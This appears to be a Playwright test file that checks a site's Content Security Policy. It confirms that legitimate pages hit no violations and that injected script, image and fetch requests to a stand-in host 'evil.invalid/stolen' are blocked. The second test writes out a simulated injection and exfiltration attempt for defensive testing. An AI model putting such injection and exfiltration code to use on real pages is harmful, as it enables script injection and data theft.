import type { Browser, Page } from 'playwright-core'
import { Phones } from '../looks/open-face'
import { FACES } from '../looks/pages'
import { setStage, type Stage } from '../looks/stage'
import { launchChromium } from './chromium'

let browser: Browser
let stage: Stage
beforeAll(async () => {
  stage = await setStage()
  browser = await launchChromium()
}, 120_000)
afterAll(async () => {
  await browser.close()
  await stage.stop()
})

const LISTEN = `
  window.forbidden = []
  addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
    window.forbidden.push(violatedDirective + ' ' + blockedURI))`
const forbidden = (page: Page) => page.evaluate('window.forbidden') as Promise<string[]>

// One face of each page: a policy is of the page, not of what it shows.
const faces = FACES.filter(({ page }, index) => FACES.findIndex((it) => it.page === page) === index)

it('forbids no page anything it needs', async () => {
  const phones = new Phones(browser, stage, [LISTEN])
  for (const face of faces)
    expect([face.name, await forbidden(await phones.open(face, false))]).toEqual([face.name, []])
  await phones.close()
}, 240_000)

it('lets nothing run that was written into a page, and nothing be sent elsewhere', async () => {
  const page = await browser.newPage()
  await page.addInitScript(LISTEN)
  await page.goto(`${stage.server.base}/pages/home/index`)
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.taken = true'
    document.body.append(script)
    const picture = document.createElement('img')
    picture.src = 'https://evil.invalid/stolen'
    document.body.append(picture)
  })
  const sent = await page.evaluate(() =>
    fetch('https://evil.invalid/stolen').then(
      () => 'sent',
      () => 'not sent',
    ),
  )
  expect(sent).toBe('not sent')
  expect(await page.evaluate('window.taken')).toBeUndefined()
  const told = await forbidden(page)
  for (const directive of [
    'script-src-elem inline',
    'img-src https://evil.invalid/',
    'connect-src https://evil.invalid/',
  ])
    expect(told.some((it) => it.startsWith(directive))).toBe(true)
  await page.close()
})
